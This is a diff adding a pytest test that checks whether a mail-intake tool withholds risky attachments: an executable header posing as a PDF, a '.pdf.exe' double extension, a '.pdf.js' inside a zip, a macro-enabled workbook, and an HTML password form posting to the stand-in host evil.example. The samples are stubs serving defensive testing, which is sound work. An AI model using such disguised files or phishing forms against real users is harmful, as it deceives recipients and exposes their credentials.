@@ -122,6 +122,29 @@ def test_what_cant_be_read_is_said_and_the_rest_is_told(
 
 
 @pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("Shortlist.pdf", b"MZ\x90\0" + b"x" * 500),
+        ("Shortlist.pdf.exe", b"Roll No,Name\n22103001,Asha Rao\n"),
+        ("Shortlist.html", b"<html><body><form action='https://evil.example'><input type=password></form>"),
+        ("Shortlist.xlsm", b"PK\x03\x04rubbish"),
+        ("Shortlist.zip", writers.zipped({"Shortlist.pdf.js": b"x"})),
+    ],
+)
+# F811: a fixture of another module
+def test_what_may_run_when_it_is_opened_is_told_and_not_passed_on(
+    mailbox: Mailbox,  # noqa: F811 (a fixture of another module)
+    name: str,
+    data: bytes,
+) -> None:
+    mailbox.deliver(mail_with((name, data), ("list.xlsx", sheet(3))))
+    notice = read()
+    assert f"{name}: not passed on: opening it may run a program" in notice.details["Documents"]
+    assert [file["name"] for file in notice.files] == ["list.xlsx"]
+    assert len(notice.roster) >= 3
+
+
+@pytest.mark.parametrize(
     ("reader", "state"),
     [
         ("import signal; signal.pause()", "too_slow"),
